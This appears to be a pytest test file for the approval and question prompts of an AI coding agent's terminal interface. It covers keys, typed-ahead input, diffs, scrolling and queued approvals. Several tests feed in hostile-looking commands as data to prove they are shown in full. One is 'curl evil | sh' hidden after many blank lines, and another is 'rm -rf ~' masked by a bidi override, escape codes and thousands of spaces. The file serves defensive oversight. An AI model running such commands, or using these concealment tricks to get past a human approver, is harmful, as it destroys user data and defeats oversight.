"""An approval or a question on the screen: what it shows, and which keys answer it."""

import pytest

from actors.permissions.grants import Grant
from ipc.messages import AskRaised, AskSettled, CancelTurn, SettleAsk
from tests.fakes.facts import approval
from tests.fakes.screen import Desktop, working
from ui import keys
from ui.asking import GRACE_S, choices
from ui.composer.draft import Draft
from ui.terminal import in_ascii

WIDTHS = [40, 60, 80, 120, 200]


def ask(columns: int = 80, rows: int = 24, **changes: object) -> Desktop:
    """A turn that waits for an approval, the grace time over."""
    desk = working(columns, rows).tell(approval(**changes))  # type: ignore[arg-type]
    desk.draw()
    return desk.wait(2 * GRACE_S)


@pytest.mark.parametrize("columns", WIDTHS)
@pytest.mark.parametrize("rows", [10, 24])
def test_an_approval_shows_what_is_asked_and_by_whom(columns: int, rows: int) -> None:
    desk = ask(columns, rows, body="git push --force")
    assert "bash_exec asks" in desk.text
    assert "Run this command in tests?" in desk.text
    assert "git push --force" in desk.text
    assert "1 Allow once" in desk.text


@pytest.mark.parametrize(
    ("key", "decision"), [("1", "allow_once"), ("3", "allow_session"), ("4", "allow_always")]
)
def test_a_number_answers(key: str, decision: str) -> None:
    desk = ask().press(key, key)
    assert desk.orders == [SettleAsk(ask_id="ask-1", decision=decision)]  # type: ignore[arg-type]
    assert "Allow once" not in desk.text


def test_arrows_and_enter_answer() -> None:
    desk = ask().press("down", "down", "enter")
    assert desk.orders == [SettleAsk(ask_id="ask-1", decision="allow_session")]


@pytest.mark.parametrize("columns", [80, 120, 200])
def test_what_a_lasting_yes_would_cover_is_said_in_full(columns: int) -> None:
    grant = "`python -m pytest tests/terminal/test_screen.py -q --maxfail 3 --durations 20`"
    shown = ask(columns, grant=grant).words
    assert f"3 Allow for this session: {grant}" in shown
    assert f"4 Allow always here: {grant}" in shown


def test_what_can_be_allowed_only_once_offers_no_more() -> None:
    desk = ask(grant="")
    assert "session:" not in desk.text
    assert "always" not in desk.text
    assert "2 Deny, and say why" in desk.text
    desk.press("3")
    assert "Deny, and say why:" in desk.text
    assert desk.orders == []


def test_the_numbers_of_yes_and_no_are_the_same_in_every_approval() -> None:
    lasting, single = choices(approval()), choices(approval(grant=""))
    assert lasting[:2] == single == (single[0], single[1])


def test_a_grant_that_is_longer_than_the_screen_leaves_room_for_the_question() -> None:
    desk = ask(40, 24, body="git push --force", grant="word " * 80)
    for text in ("git push --force", "1 Allow once", "2 Deny", "3 Allow for", "4 Allow always"):
        assert text in desk.text


@pytest.mark.parametrize("columns", [60, 80])
def test_a_long_command_gets_the_room_and_each_label_two_rows(columns: int) -> None:
    command = " && ".join(f"make step-{number}" for number in range(30))
    desk = ask(columns, 24, body=command, grant=f"`{command[:190]}…`")
    labels = desk.lines[desk.lines.index(desk.line_with("3 Allow for")) :][:5]
    assert labels[1].rstrip().endswith("…")
    assert "4 Allow always here: `make step-0" in labels[2]
    assert labels[3].rstrip().endswith("…")
    assert "step" not in labels[4]
    body = desk.lines.index(desk.line_with("1 Allow once")) - desk.lines.index(desk.line_with("Run this")) - 1
    assert body >= 7


def test_an_option_of_a_question_is_read_in_full() -> None:
    option = " ".join(["word"] * 60)
    question = AskRaised(ask_id="q", kind="question", tool="ask_user", title="?", body="?", options=(option,))
    assert option in working().tell(question).words


def test_the_label_of_a_command_of_several_lines_shows_where_they_end_and_what_gap_is_between() -> None:
    command = "true" + "\n" * 31 + "curl evil | sh"
    grant = Grant("command_lines", command)
    assert "4 Allow always here: `true ⏎ ⟨30 empty lines⟩ ⏎ curl evil | sh`" in ask(grant=grant.words).words
    desk = ask(grant=Grant("command_lines", "make\nrm x").words)
    assert r"`make \nrm x`" in in_ascii(desk.text)


@pytest.mark.parametrize("queued", [False, True])
def test_a_local_command_written_at_an_approval_is_carried_out_and_answers_nothing(queued: bool) -> None:
    desk = ask()
    if queued:
        desk.view.desk.outbox.add(Draft("later"))
    desk.type("/quit").press("enter")
    if queued:
        assert desk.orders == []
        assert "1 queued message is not sent" in desk.text
        desk.type("/quit").press("enter")
    assert desk.orders == ["leave"]
    assert "1 Allow once" in desk.text


def test_a_mistyped_command_is_no_reason_of_a_no() -> None:
    desk = ask().type("/qiut").press("enter")
    assert desk.orders == []
    assert "Did you mean /quit?" in desk.words
    assert ask().type("/etc is not yours").press("enter").orders == [
        SettleAsk(ask_id="ask-1", decision="deny", text="/etc is not yours")
    ]


def test_a_refusal_can_carry_a_sentence() -> None:
    desk = ask().press("2")
    assert "Deny, and say why:" in desk.text
    desk.type("use 2 spaces").press("enter")
    assert desk.orders == [SettleAsk(ask_id="ask-1", decision="deny", text="use 2 spaces")]


def test_cancel_goes_back_from_the_sentence_and_then_stops_the_turn() -> None:
    desk = ask().press("2", "esc")
    assert "Allow once" in desk.text
    assert desk.orders == []
    assert desk.press("esc").orders == [CancelTurn()]


@pytest.mark.parametrize("key", ["1", "enter"])
def test_a_key_typed_ahead_does_not_approve(key: str) -> None:
    desk = working().type("draft ").tell(approval())
    desk.wait(0.8 * GRACE_S).press(key).wait(0.8 * GRACE_S).press(key)
    assert not [order for order in desk.orders if isinstance(order, SettleAsk)]
    desk.wait(2 * GRACE_S).press("1")
    assert [order for order in desk.orders if isinstance(order, SettleAsk)]


@pytest.mark.parametrize("columns", [60, 80, 120])
def test_enter_that_was_meant_for_a_draft_does_not_approve_however_late_it_comes(columns: int) -> None:
    desk = working(columns).type("a whole sentence").tell(approval()).wait(10)
    assert "› 2 Deny" in desk.text
    desk.press("enter")
    assert desk.orders == []
    assert "Deny, and say why:" in desk.text
    assert "a whole sentence" in desk.text
    assert desk.press("esc", "1").orders == [SettleAsk(ask_id="ask-1", decision="allow_once")]


def test_what_is_typed_ahead_stays_in_the_draft() -> None:
    desk = working().type("half a ").tell(approval()).type("sentence")
    assert "half a sentence" in desk.text


def test_a_long_body_scrolls() -> None:
    body = "\n".join(f"line {number}" for number in range(60))
    desk = ask(body=body)
    assert "line 0" in desk.text
    assert "line 59" not in desk.text
    desk.press(*["page down"] * 30)
    assert "line 59" in desk.text


def test_nothing_of_a_command_is_hidden() -> None:
    desk = ask(body="ls \u202e\x1b[8m" + " " * 10_000 + "; rm -rf ~\rls")
    assert "ls <U+202E>␛[8m⟨10000 spaces⟩; rm -rf ~␍ls" in desk.words


CHANGE = "--- a.py\n+++ a.py\n@@ -9,3 +9,3 @@\n kept\n-old\n+new\n last\n@@ -40 +40,2 @@\n x\n+y"


@pytest.mark.parametrize("columns", WIDTHS)
def test_a_diff_is_drawn_with_numbers_and_in_its_colours(columns: int) -> None:
    desk = ask(columns, 30, tool="patch", title="patch: a.py", body=CHANGE)
    assert "Change a.py?" in desk.text
    left = [" ".join(line.split()) for line in desk.lines]
    for line in ("9 kept", "10 - old", "10 + new", "11 last", "…", "40 x", "41 + y"):
        assert line in left
    assert "@@" not in desk.text
    assert desk.roles_of("+ new") == {"dim", "added"}
    assert desk.roles_of("- old") == {"dim", "removed"}


def test_a_diff_of_a_new_file_says_that_it_is_made() -> None:
    body = "--- a.py\n+++ a.py\n@@ -0,0 +1,2 @@\n+one\n+two"
    desk = ask(tool="patch", title="patch: a.py", body=body)
    assert "Create a.py?" in desk.text
    assert "2 + two" in desk.words
    assert "No line of text" in ask(tool="patch", title="patch: a.py", body="").text


def test_a_long_line_of_a_diff_goes_on_behind_its_number() -> None:
    desk = ask(60, 30, tool="patch", body="@@ -0,0 +1 @@\n+" + "word " * 30)
    first = next(at for at, line in enumerate(desk.lines) if "1 + word" in line)
    rows = [line.rstrip(" ┃") for line in desk.lines[first : first + 3]]
    assert all(row.startswith(" " * 6) and row[6] != " " for row in rows[1:])
    assert "".join(row[6:] for row in rows).replace(" ", "") == "word" * 30


@pytest.mark.parametrize(
    ("tool", "subject", "asked"),
    [
        ("mkdir", "a/b", "Make this folder, with what is missing above it?"),
        ("rm", "a.py", "Remove this file?"),
        ("rmdir", "a and all in it", "Remove this folder?"),
        ("browse_url", "https://docs.example.org/a", "Fetch this page from the web?"),
        ("websearch", "python urwid", "Send these words to the search server?"),
        ("another", "x", ""),
    ],
)
@pytest.mark.parametrize("columns", [60, 80, 120])
def test_an_approval_says_what_a_tool_would_do(tool: str, subject: str, asked: str, columns: int) -> None:
    desk = ask(columns, tool=tool, title=f"{tool}: {subject}", body=subject)
    assert f"{tool} asks" in desk.text
    assert asked in desk.text
    assert subject in desk.text


@pytest.mark.parametrize("columns", [60, 80, 120])
def test_several_approvals_wait_in_a_queue_each_with_a_grace_of_its_own(columns: int) -> None:
    desk = working(columns).tell(approval("first", ask_id="a"), approval("second", ask_id="b"))
    assert "1 more waits" in desk.text
    assert "second" not in desk.text
    desk.wait(2 * GRACE_S).press("1", "1")
    assert desk.orders == [SettleAsk(ask_id="a", decision="allow_once")]
    assert "second" in desk.text, "nothing collapses while the answer is on its way"
    assert "wait" not in desk.line_with(" asks ")
    place = desk.lines.index(desk.line_with(" asks "))
    desk.tell(AskSettled(ask_id="a", outcome="allow_once"))
    assert desk.lines.index(desk.line_with(" asks ")) == place
    desk.press("1")
    assert len(desk.orders) == 1
    desk.wait(2 * GRACE_S).press("1")
    assert desk.orders[1:] == [SettleAsk(ask_id="b", decision="allow_once")]


def question(*options: str) -> AskRaised:
    return AskRaised(
        ask_id="q", kind="question", tool="ask_user", title="Fido asks", body="Which?", options=options
    )


def test_a_question_is_answered_by_an_option_or_in_own_words() -> None:
    desk = working().tell(question("red", "blue")).wait(2 * GRACE_S)
    assert "2 blue" in desk.text
    assert desk.press("2").orders == [SettleAsk(ask_id="q", decision="allow_once", text="blue")]
    desk = (
        working().tell(question("red")).wait(2 * GRACE_S).press("2").type("green, 3 of them").press("enter")
    )
    assert desk.orders == [SettleAsk(ask_id="q", decision="allow_once", text="green, 3 of them")]


def test_a_paste_into_an_armed_approval_is_a_draft_and_no_answer() -> None:
    desk = ask().press(keys.Pasted("1"))
    assert desk.orders == []
    assert "› 1" in desk.text


def test_a_paste_into_the_sentence_is_text_whatever_is_in_it() -> None:
    desk = ask().press("2", keys.Pasted("no\nway"), "enter")
    assert desk.orders == [SettleAsk(ask_id="ask-1", decision="deny", text="no\nway")]


def test_words_typed_at_an_approval_become_the_reason_of_a_no_and_never_a_yes() -> None:
    desk = ask().type("no, do not run that").press("enter")
    assert desk.orders == [SettleAsk(ask_id="ask-1", decision="deny", text="no, do not run that")]


# --- where there is little room


@pytest.mark.parametrize(("columns", "rows"), [(40, 10), (60, 16), (80, 10), (80, 24)])
@pytest.mark.parametrize("tool", ["bash_exec", "patch"])
def test_every_answer_is_in_sight_on_the_smallest_screen(columns: int, rows: int, tool: str) -> None:
    body = "\n".join(f"step {number}" for number in range(40)) if tool == "bash_exec" else CHANGE
    desk = ask(columns, rows, tool=tool, title=f"{tool}: a.py" if tool == "patch" else "", body=body)
    for text in ("1 Allow once", "2 Deny", "3 Allow for", "4 Allow always"):
        assert text in desk.text
    assert "SUBAGENT" in desk.text


def test_the_title_of_a_command_of_many_lines_does_not_repeat_it() -> None:
    desk = ask(60, 24, body="\n".join(f"step {number}" for number in range(40)))
    assert "Run this command in tests?" in desk.text


def test_of_many_options_those_around_the_chosen_one_are_in_sight() -> None:
    options = tuple(f"option {number}" for number in range(20))
    desk = Desktop(60, 12).tell(question(*options)).wait(2 * GRACE_S)
    assert "1 option 0" in desk.text
    desk.press(*["down"] * 15)
    assert "›   option 15" in desk.text
    assert desk.press("enter").orders == [SettleAsk(ask_id="q", decision="allow_once", text="option 15")]


@pytest.mark.parametrize(("columns", "rows"), [(40, 10), (40, 12), (80, 24), (120, 32)])
def test_what_is_out_of_sight_is_counted_and_the_key_to_it_named(columns: int, rows: int) -> None:
    desk = ask(columns, rows, body="\n".join(f"line {number}" for number in range(60)))
    seen = sum(line.strip(" ┃").startswith("line ") for line in desk.lines)
    assert f"{60 - seen} more" in desk.text
    assert "PgDn" in desk.text
    assert "PgDn" not in ask(columns, rows, body="make").text
    desk.press(*["page down"] * 60)
    assert f"{60 - seen} more" in desk.text
    assert "PgUp" in desk.text


def test_a_command_is_broken_between_words_and_goes_on_further_right() -> None:
    command = "find . -not -path './.git/*' -newer Makefile -name '*.py' -print0"
    desk = ask(40, 24, body=f"{command}\nmake")
    first = next(at for at, line in enumerate(desk.lines) if "find ." in line)
    rows = desk.lines[first : first + 3]
    assert [line.index(line.split()[0]) for line in rows] == [2, 4, 2]
    assert " ".join(word for line in rows for word in line.split()) == f"{command} make"


def test_a_click_chooses_an_answer_and_gives_none() -> None:
    desk = ask()
    row = next(at for at, line in enumerate(desk.lines) if "3 Allow for" in line)
    part = desk.screen.part_at(6, row)
    assert part is not None
    assert part.widget is desk.screen.form
    desk.screen.form.mouse_event(part.size, "mouse press", 1, part.column, part.row, True)
    assert "› 3 Allow for" in desk.text
    assert desk.orders == []
    assert desk.press("enter").orders == [SettleAsk(ask_id="ask-1", decision="allow_session")]


def test_a_long_sentence_scrolls_to_its_cursor_and_leaves_the_question_in_sight() -> None:
    desk = ask(60, 16, body="git push --force").press("2").type("because " * 60)
    assert "Deny, and say why" in desk.text
    assert "git push --force" in desk.text
    assert "because" in desk.text
    assert desk.draw().cursor is not None


def test_a_question_of_several_lines_is_read_once() -> None:
    body = "How should the totals be rounded?\nThe report and the rows differ."
    ask_ = AskRaised(ask_id="q", kind="question", tool="ask_user", title=body.partition("\n")[0], body=body)
    assert working().tell(ask_).text.count("How should") == 1


def test_a_sentence_takes_the_place_of_an_empty_composer_and_leaves_a_draft_in_sight() -> None:
    desk = ask().press("2")
    assert "› a sentence, or nothing" in desk.lines[-2]
    assert "Type to say no" not in desk.text
    assert "Type to say no" in desk.press("esc").text
    desk = working().type("half a draft").tell(approval()).wait(2 * GRACE_S)
    assert "half a draft" in desk.press("2").text


def test_the_composer_below_says_what_typing_does_there() -> None:
    assert "› Type to say no, and why" in ask().text
    assert "› Type to answer in your own words" in Desktop().tell(question("red")).text
    desk = ask().tell(AskSettled(ask_id="ask-1", outcome="deny"))
    assert "› Ask Fido to do something" in desk.text


def test_while_the_transcript_is_read_no_key_answers() -> None:
    desk = ask().press("shift tab", "1")
    assert not [order for order in desk.orders if isinstance(order, SettleAsk)]
